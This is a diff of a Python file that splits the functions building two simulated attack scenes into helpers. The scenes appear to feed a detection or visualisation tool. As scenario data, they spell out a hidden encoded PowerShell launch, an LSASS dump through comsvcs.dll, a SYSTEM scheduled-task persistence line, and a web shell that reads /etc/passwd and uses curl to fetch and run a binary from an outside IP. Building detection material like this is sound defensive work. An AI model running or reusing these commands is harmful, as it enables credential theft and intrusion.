@@ -47,24 +47,10 @@ def key(n: int, when: float, actor: Process, action: str, thing: str, weight: fl
     )
 
 
-def macro() -> Scene:
-    """A document's macro runs PowerShell, reads LSASS and leaves a scheduled task."""
-    lena, office = "CORP\\lena", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
-    word = process(
-        "w", 4120, f'"{office}" /n "C:\\Users\\lena\\Downloads\\Invoice 2291.docm"', office, 0, 0.83, "e", lena
-    )
-    ps = process("p", 5532, f"powershell.exe -nop -w hidden -enc {ENCODED}", SHELL, 24.3, 0.97, "w", lena)
-    dump_line = "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 688 C:\\ProgramData\\l.dmp full"
-    dump = process("d", 6012, dump_line, SYSTEM32 + "rundll32.exe", 96, 0.99, "p", "NT AUTHORITY\\SYSTEM")
-    task_line = 'schtasks /create /tn "OneDrive Update" /tr "C:\\ProgramData\\od.exe" /sc onlogon /ru SYSTEM'
-    task = process("t", 6300, task_line, SYSTEM32 + "schtasks.exe", 4210, 0.91, "p", "NT AUTHORITY\\SYSTEM")
-    quiet = [
-        process(f"q{i}", 7000 + 4 * i, f"{name} /update", SYSTEM32 + name, 3 + i, 0.02, "w" if i % 3 else "e", lena)
-        for i, name in enumerate(["splwow64.exe", "conhost.exe", "ctfmon.exe", "OneDrive.exe", "Teams.exe"] * 5)
-    ]
-    explorer = process("e", 3300, "C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe", -3600, 0.05, "", lena)
-    odd = ("started by WINWORD.EXE", "unusually random command line", "“-enc”")
-    frames = (
+def _macro_frames_a(
+    dump: Process, dump_line: str, odd: tuple[str, ...], ps: Process, word: Process
+) -> tuple[KeyFrame, ...]:
+    return (
         key(
             1188,
             24.3,
@@ -114,6 +100,11 @@ def macro() -> Scene:
             features=("“minidump”", "“comsvcs.dll”"),
             detail="process.integrity: System\nactor.user.name: NT AUTHORITY\\SYSTEM",
         ),
+    )
+
+
+def _macro_frames_b(dump: Process, ps: Process, task: Process, task_line: str) -> tuple[KeyFrame, ...]:
+    return (
         key(
             1244,
             96.4,
@@ -150,6 +141,26 @@ def macro() -> Scene:
             techniques=("T1053.005",),
         ),
     )
+
+
+def macro() -> Scene:
+    """A document's macro runs PowerShell, reads LSASS and leaves a scheduled task."""
+    lena, office = "CORP\\lena", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
+    word = process(
+        "w", 4120, f'"{office}" /n "C:\\Users\\lena\\Downloads\\Invoice 2291.docm"', office, 0, 0.83, "e", lena
+    )
+    ps = process("p", 5532, f"powershell.exe -nop -w hidden -enc {ENCODED}", SHELL, 24.3, 0.97, "w", lena)
+    dump_line = "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 688 C:\\ProgramData\\l.dmp full"
+    dump = process("d", 6012, dump_line, SYSTEM32 + "rundll32.exe", 96, 0.99, "p", "NT AUTHORITY\\SYSTEM")
+    task_line = 'schtasks /create /tn "OneDrive Update" /tr "C:\\ProgramData\\od.exe" /sc onlogon /ru SYSTEM'
+    task = process("t", 6300, task_line, SYSTEM32 + "schtasks.exe", 4210, 0.91, "p", "NT AUTHORITY\\SYSTEM")
+    quiet = [
+        process(f"q{i}", 7000 + 4 * i, f"{name} /update", SYSTEM32 + name, 3 + i, 0.02, "w" if i % 3 else "e", lena)
+        for i, name in enumerate(["splwow64.exe", "conhost.exe", "ctfmon.exe", "OneDrive.exe", "Teams.exe"] * 5)
+    ]
+    explorer = process("e", 3300, "C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe", -3600, 0.05, "", lena)
+    odd = ("started by WINWORD.EXE", "unusually random command line", "“-enc”")
+    frames = _macro_frames_a(dump, dump_line, odd, ps, word) + _macro_frames_b(dump, ps, task, task_line)
     return scene(
         "ws-17/w",
         "ws-17-Sysmon.evtx",
@@ -164,15 +175,10 @@ def macro() -> Scene:
     )
 
 
-def web_shell() -> Scene:
-    """A web server runs a shell, which looks round, fetches a tool and adds a key."""
-    www = "www-data"
-    php = process("wp", 811, "php-fpm: pool www", "/usr/sbin/php-fpm8.2", 7000, 0.77, "", www)
-    sh = process("ws", 9001, "sh -c id; uname -a; cat /etc/passwd", "/usr/bin/dash", 7041, 0.9, "wp", www)
-    curl = process("wc", 9010, "curl -fsSL http://203.0.113.9/x -o /tmp/.x", "/usr/bin/curl", 7090, 0.88, "ws", www)
-    run = process("wx", 9014, "/tmp/.x -d", "/tmp/.x", 7101, 0.93, "ws", www)
-    audit = {"source": "web-02/audit.log"}
-    frames = (
+def _web_shell_frames(
+    audit: dict[str, str], curl: Process, php: Process, run: Process, sh: Process
+) -> tuple[KeyFrame, ...]:
+    return (
         key(
             401,
             7041,
@@ -215,6 +221,17 @@ def web_shell() -> Scene:
             **audit,
         ),
     )
+
+
+def web_shell() -> Scene:
+    """A web server runs a shell, which looks round, fetches a tool and adds a key."""
+    www = "www-data"
+    php = process("wp", 811, "php-fpm: pool www", "/usr/sbin/php-fpm8.2", 7000, 0.77, "", www)
+    sh = process("ws", 9001, "sh -c id; uname -a; cat /etc/passwd", "/usr/bin/dash", 7041, 0.9, "wp", www)
+    curl = process("wc", 9010, "curl -fsSL http://203.0.113.9/x -o /tmp/.x", "/usr/bin/curl", 7090, 0.88, "ws", www)
+    run = process("wx", 9014, "/tmp/.x -d", "/tmp/.x", 7101, 0.93, "ws", www)
+    audit = {"source": "web-02/audit.log"}
+    frames = _web_shell_frames(audit, curl, php, run, sh)
     return scene(
         "web-02/wp",
         "web-02/audit.log",
